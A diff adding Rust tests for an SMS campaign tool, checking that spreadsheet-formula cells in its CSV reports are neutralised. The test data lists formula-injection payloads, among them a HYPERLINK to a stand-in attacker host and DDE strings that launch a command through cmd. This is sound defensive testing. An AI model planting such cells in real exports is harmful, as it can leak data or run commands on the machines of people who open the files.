@@ -2092,3 +2092,101 @@ fn a_refused_confirmation_leaves_nothing_that_blocks_an_edited_csv() {
     assert_eq!(r.code, 0, "{r:?}");
     assert_exactly_once(&stand, &nums);
 }
+
+// ===== hardening (issue 8): files
+
+/// A report cell that Excel / LibreOffice would run as a formula.
+fn is_live_formula(cell: &str) -> bool {
+    let e164 =
+        cell.len() > 1 && cell.starts_with('+') && cell[1..].bytes().all(|b| b.is_ascii_digit());
+    !e164 && cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// Every cell of the report at `path` (header included).
+fn report_cells(path: &Path) -> Vec<Vec<String>> {
+    let text = std::fs::read_to_string(path).unwrap();
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect()
+}
+
+fn assert_no_live_formula(path: &Path) {
+    for row in report_cells(path) {
+        for cell in &row {
+            assert!(!is_live_formula(cell), "live formula {cell:?} in {row:?}");
+        }
+    }
+}
+
+#[test]
+fn invalid_rows_that_look_like_formulas_are_neutralised_in_the_report_and_numbers_are_kept() {
+    let stand = Stand::start();
+    let camp = Camp::new(stand.world());
+    let dangerous = [
+        "=HYPERLINK(\"http://evil.example/?x\",\"click\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "x;=cmd|' /C calc'!A0",
+    ];
+    let mut csv = String::from("recipient,name\n+6591234567,Ann\n");
+    for d in &dangerous {
+        csv.push_str(&format!("\"{}\",Bad\n", d.replace('"', "\"\"")));
+    }
+    csv.push_str("+6591234568,Ben\n");
+    camp.write("r.csv", &csv);
+    let r = camp.campaign(&["--skip-invalid"]);
+    assert_eq!(r.code, 0, "{r:?}");
+    assert_eq!(
+        stand.posts().len(),
+        2,
+        "only the two valid numbers are sent"
+    );
+    let report_path = camp.file("r.report.csv");
+
+    let check = |when: &str| {
+        assert_no_live_formula(&report_path);
+        let report = camp.report();
+        assert_eq!(report.len(), 2 + dangerous.len(), "{when}: {report:?}");
+        // valid E.164 numbers are untouched
+        assert_eq!(report[0].recipient, "+6591234567", "{when}");
+        assert_eq!(report.last().unwrap().recipient, "+6591234568", "{when}");
+        let skipped: Vec<&ReportLine> = report
+            .iter()
+            .filter(|l| l.status == "skipped_invalid")
+            .collect();
+        assert_eq!(skipped.len(), dangerous.len(), "{when}: {report:?}");
+        for l in &skipped {
+            // What was typed is still readable, behind the quote that makes it text.
+            let typed = l.recipient.strip_prefix('\'').unwrap_or(&l.recipient);
+            assert!(
+                dangerous.iter().any(|d| d.trim() == typed.trim()),
+                "{when}: {:?} is not one of the typed values",
+                l.recipient
+            );
+        }
+        let text = std::fs::read_to_string(&report_path).unwrap();
+        assert!(
+            text.contains("'=HYPERLINK("),
+            "{when}: the formula is not neutralised: {text}"
+        );
+        assert!(
+            text.contains("\"x;=cmd|' /C calc'!A0\""),
+            "{when}: a cell with a `;` is not quoted: {text}"
+        );
+    };
+    check("campaign run");
+
+    // `campaign status` rewrites the report (from the journal, then from the report).
+    let r = camp.run(&["campaign", "status", "r.csv.smsctl-journal"]);
+    assert_eq!(r.code, 0, "{r:?}");
+    check("campaign status JOURNAL");
+    let r = camp.run(&["campaign", "status", "r.report.csv"]);
+    assert_eq!(r.code, 0, "{r:?}");
+    check("campaign status REPORT");
+}
